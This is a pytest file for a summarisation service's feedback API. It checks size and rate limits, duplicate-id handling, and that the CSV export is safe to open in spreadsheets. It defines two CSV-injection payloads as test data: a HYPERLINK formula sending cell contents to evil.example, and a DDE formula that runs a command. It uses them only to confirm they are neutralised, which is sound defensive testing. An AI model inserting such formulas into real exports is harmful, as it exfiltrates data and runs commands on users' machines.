"""POST /feedback and GET /feedback.csv of `sumpipe serve` over HTTP: the store's quotas and
reused ids answered as statuses that say why, and an export that spreadsheets open safely and
Python's csv, pandas and scripts/evaluate.py --feedback read back row for row."""

from __future__ import annotations

import csv
import io
import subprocess
import sys
import uuid
from collections.abc import Iterator
from pathlib import Path

import httpx
import pandas as pd
import pytest
from api_server import serve

ROOT = Path(__file__).resolve().parents[2]
PER_MINUTE = 4
MAX_BYTES = 20_000
HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"click")'
DDE = "=cmd|' /C calc'!A0"


@pytest.fixture(scope="module")
def http() -> Iterator[httpx.Client]:
    limits = {
        "SUMPIPE_FEEDBACK_DECISIONS_PER_MINUTE": str(PER_MINUTE),
        "SUMPIPE_FEEDBACK_MAX_DECISION_BYTES": str(MAX_BYTES),
    }
    with serve(limits) as (url, _), httpx.Client(base_url=url, timeout=60) as client:
        yield client


def body(**fields: str) -> dict[str, str]:
    """A decision as the page sends it, by a reviewer of its own unless `fields` name one."""
    return {
        "text": "The chips are crunchy. The bag was half empty.",
        "method": "default",
        "summary_shown": "The chips are crunchy.",
        "decision": "approve",
        "reviewer": uuid.uuid4().hex,
        "decision_id": uuid.uuid4().hex,
        **fields,
    }


def exported(http: httpx.Client) -> list[dict[str, str]]:
    answer = http.get("/feedback.csv")
    assert answer.status_code == 200
    return list(csv.DictReader(io.StringIO(answer.text, newline="")))


def test_a_decision_over_the_size_limit_is_413_naming_it(http: httpx.Client) -> None:
    big = body(text="é" * (MAX_BYTES // 2))  # within the API's own limits, over the store's
    answer = http.post("/feedback", json=big)
    assert answer.status_code == 413
    assert f"over the limit of {MAX_BYTES:,} bytes per decision" in answer.json()["detail"]
    assert big["decision_id"] not in {row["decision_id"] for row in exported(http)}


def test_a_reviewer_over_the_rate_gets_429_with_retry_after(http: httpx.Client) -> None:
    reviewer = "Rate " + uuid.uuid4().hex[:6]
    answers: list[httpx.Response] = []
    while len(answers) <= 2 * PER_MINUTE and (not answers or answers[-1].status_code != 429):
        answers.append(http.post("/feedback", json=body(reviewer=reviewer)))
    *recorded, refused = answers
    assert {answer.status_code for answer in recorded} == {201}
    # The quota, or (when a minute ended mid-burst) some of it twice: the exact count is the store's test.
    assert PER_MINUTE <= len(recorded) < 2 * PER_MINUTE
    assert refused.status_code == 429
    assert f"reviewer {reviewer!r} recorded {PER_MINUTE} decisions this minute" in refused.json()["detail"]
    assert 1 <= int(refused.headers["Retry-After"]) <= 60
    assert http.post("/feedback", json=body()).status_code == 201  # another reviewer's quota


def test_a_reused_decision_id_is_409_and_a_retry_is_200(http: httpx.Client) -> None:
    first = body()
    assert http.post("/feedback", json=first).status_code == 201
    retry = http.post("/feedback", json=first)
    assert (retry.status_code, retry.json()["recorded"]) == (200, False)
    reused = http.post("/feedback", json={**first, "decision": "reject", "reason": "too short"})
    assert reused.status_code == 409
    assert f"decision_id {first['decision_id']} was already recorded" in reused.json()["detail"]
    assert [row["decision"] for row in exported(http) if row["decision_id"] == first["decision_id"]] == [
        "approve"
    ]


def test_the_export_is_safe_in_a_spreadsheet_and_reads_back_row_for_row(
    http: httpx.Client, tmp_path: Path
) -> None:
    marker = uuid.uuid4().hex[:8]
    texts = {  # text_id -> text: ids a spreadsheet wouldn't run, texts with every kind of line break
        "-_TSaVr53qiEGqMkwyEMaQ": f"{HYPERLINK} is a cell. Crunchy chips {marker}.",
        "-5": f"One sentence.\rA bare CR {marker}. Then more.",
        "-abc": f"One sentence.\nA LF {marker}. Then more.",
        "+3.2": f"One sentence.\r\nA CRLF {marker}. Then more.",
        "@home": f"\tA leading tab {marker}. Then more.",
    }
    for text_id, text in texts.items():
        sent = body(text_id=text_id, job_id="-5", text=text, summary_shown=text.split(".")[0] + ".")
        assert http.post("/feedback", json=sent).status_code == 201
    reason = body(text=f"Rejected {marker}.", decision="reject", reason="\t" + DDE)  # .strip()ped by the POST
    assert http.post("/feedback", json=reason).status_code == 201
    answer = http.get("/feedback.csv")
    path = tmp_path / "feedback.csv"
    path.write_bytes(answer.content)

    rows = [row for row in exported(http) if marker in row["text"]]
    assert {row["text_id"]: row["text"] for row in rows[:-1]} == {
        **texts, "-_TSaVr53qiEGqMkwyEMaQ": "'" + texts["-_TSaVr53qiEGqMkwyEMaQ"]
    }  # fmt: skip
    assert {row["job_id"] for row in rows[:-1]} == {"-5"}
    assert rows[-1]["reason"] == "'" + DDE
    frame = pd.read_csv(path, dtype=str, keep_default_na=False)
    assert frame[frame["text"].str.contains(marker)].to_dict("records") == rows

    run = subprocess.run(
        [sys.executable, str(ROOT / "scripts" / "evaluate.py"), "--feedback", str(path), "--methods", "lead"],
        capture_output=True, text=True, timeout=240, cwd=ROOT,
    )  # fmt: skip
    assert run.returncode == 0, run.stderr
    total = len(exported(http))
    assert f"{total} decisions on " in run.stderr
